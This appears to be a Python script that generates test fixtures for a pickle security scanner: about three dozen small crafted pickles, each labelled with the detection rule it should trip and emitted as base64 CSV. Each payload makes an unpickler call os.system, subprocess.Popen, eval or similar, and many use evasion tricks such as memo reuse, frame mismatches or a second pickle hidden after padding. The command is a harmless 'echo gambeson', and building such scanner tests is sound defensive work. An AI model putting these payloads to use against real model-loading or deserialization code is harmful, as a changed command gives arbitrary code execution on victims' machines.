#!/usr/bin/env python3
"""Ways to make an unpickler call something that scanners miss, each as small as it can be: tricks.py > tricks.csv

One line a trick: its name, the grade and whether it is complete as a scan must say, a rule that it must break, the pickle
in base64. What they would run is `echo gambeson`; nothing is run here. Standard library only.
"""
import base64

COMMAND = b"(S'echo gambeson'\ntR"
SYSTEM = b"cos\nsystem\n"


def text(value):
    return b"\x8c" + bytes([len(value)]) + value


CALL = text(b"echo gambeson") + b"\x85R."
BY_STACK = text(b"os") + text(b"system") + b"\x93" + CALL
DANGEROUS, AMBIGUOUS, HIDDEN, TAMPERING = "pickle-dangerous-call", "pickle-ambiguous", "pickle-hidden", "pickle-tampering"

TRICKS = [
    ("reduce", "malicious", True, DANGEROUS, SYSTEM + COMMAND + b"."),
    ("inst", "malicious", True, DANGEROUS, b"(S'echo gambeson'\nios\nsystem\n."),
    ("obj", "malicious", True, DANGEROUS, b"(" + SYSTEM + b"S'echo gambeson'\no."),
    ("obj-dropped", "malicious", True, DANGEROUS, b"(" + SYSTEM + b"S'echo gambeson'\no0N."),
    ("obj-dropped-to-mark", "malicious", True, DANGEROUS, b"((" + SYSTEM + b"S'echo gambeson'\no1N."),
    ("stack-global", "malicious", True, DANGEROUS, b"\x80\x04" + BY_STACK),
    ("stack-global-without-protocol", "malicious", True, DANGEROUS, BY_STACK),
    ("names-as-python-2-strings", "malicious", True, DANGEROUS, b"\x80\x04S'os'\nS'system'\n\x93" + CALL),
    ("names-with-escapes", "malicious", True, DANGEROUS, b"\x80\x04V\\u006fs\nVsyste\\u006d\n\x93" + CALL),
    ("newobj", "malicious", True, DANGEROUS, b"\x80\x02csubprocess\nPopen\n" + text(b"echo gambeson") + b"\x85\x81."),
    ("newobj-ex", "malicious", True, DANGEROUS, b"\x80\x04csubprocess\nPopen\n" + text(b"echo gambeson") + b"\x85}\x92."),
    ("memo", "malicious", True, DANGEROUS, b"\x80\x04" + text(b"os") + b"\x940" + text(b"system") + b"\x940h\0h\1\x93" + CALL),
    ("memo-overwritten", "malicious", True, DANGEROUS, b"\x80\x04" + text(b"json") + b"q\x000" + text(b"os") + b"q\x000h\0" + text(b"system") + b"\x93" + CALL),
    ("memo-wild", "malicious", True, AMBIGUOUS, b"\x80\x04" + text(b"os") + b"r\xff\xff\xff\x7f0j\xff\xff\xff\x7f" + text(b"system") + b"\x93" + CALL),
    ("memo-number-with-nul", "malicious", True, DANGEROUS, SYSTEM + b"p0\0x\n0g0\n" + COMMAND + b"."),
    ("memo-of-the-pickle-before", "malicious", True, DANGEROUS, b"\x80\x02" + SYSTEM + b"q\0.\x80\x02h\0X\4\0\0\0echo\x85R."),
    ("dotted-name", "malicious", True, DANGEROUS, b"\x80\x04" + text(b"pathlib") + text(b"os.system") + b"\x93" + CALL),
    ("name-of-python-2", "malicious", True, DANGEROUS, b"c__builtin__\neval\n(S'1'\ntR."),
    ("name-with-carriage-return", "suspicious", True, "pickle-unknown-call", b"cos\r\nsystem\r\n" + COMMAND + b"."),
    ("no-stop", "malicious", False, DANGEROUS, SYSTEM + COMMAND),
    ("broken-after-the-call", "malicious", False, DANGEROUS, b"\x80\x04" + SYSTEM + COMMAND + b"\xff\xff"),
    ("cut-after-the-call", "malicious", False, DANGEROUS, b"\x80\x04" + SYSTEM + COMMAND + b"X\xff\xff\xff\x7f"),
    ("extension", "suspicious", True, "pickle-extension", b"\x80\x02\x82\x05)R."),
    ("state-of-a-function", "suspicious", True, TAMPERING, b"\x80\x02cnumpy\nsize\nN}S'__builtins__'\nK\1s\x86b."),
    ("items-of-the-environment", "suspicious", True, TAMPERING, b"cos\nenviron\nS'PATH'\nS'x'\ns."),
    ("frame-straddled", "malicious", True, AMBIGUOUS, b"\x80\x04\x95\5\0\0\0\0\0\0\0" + BY_STACK),
    ("frame-behind-the-stop", "malicious", True, AMBIGUOUS, b"\x80\x04\x95\x20\0\0\0\0\0\0\0N." + SYSTEM + COMMAND + b"." + b"N" * 20),
    ("frame-longer-than-the-file", "malicious", True, AMBIGUOUS, b"\x80\x04\x95\xff\xff\0\0\0\0\0\0" + BY_STACK),
    ("second", "malicious", True, DANGEROUS, b"\x80\x04N.\x80\x04" + SYSTEM + COMMAND + b"."),
    ("hidden", "malicious", True, HIDDEN, b"\x80\x04N." + b"\0" * 50 + b"\x80\x04" + SYSTEM + COMMAND + b"."),
    ("hidden-protocol-0", "malicious", True, HIDDEN, b"\x80\x04N." + b"\0" * 50 + SYSTEM + COMMAND + b"."),
    ("hidden-inst", "malicious", True, HIDDEN, b"\x80\x04N." + b"\0" * 50 + b"(S'echo gambeson'\nios\nsystem\n."),
    ("arguments-in-a-list", "malicious", True, AMBIGUOUS, b"\x80\x04" + SYSTEM + b"](Vecho gambeson\neR."),
    ("bytes-in-pieces", "malicious", True, TAMPERING, b"\x80\x05cpickle\nloads\n\x96\0\0\0\0\0\0\0\0(K\x80K\x04e\x85R."),
    ("protocol-0-said", "malicious", True, DANGEROUS, b"\x80\x00" + SYSTEM + COMMAND + b"."),
    ("id-of-the-loader", "unrecognised", False, "incomplete", b"Pos.system\n."),
]

print("trick,grade,complete,rule,pickle")
for name, grade, complete, rule, pickle in TRICKS:
    print(",".join([name, grade, str(complete).lower(), rule, base64.b64encode(pickle).decode()]))
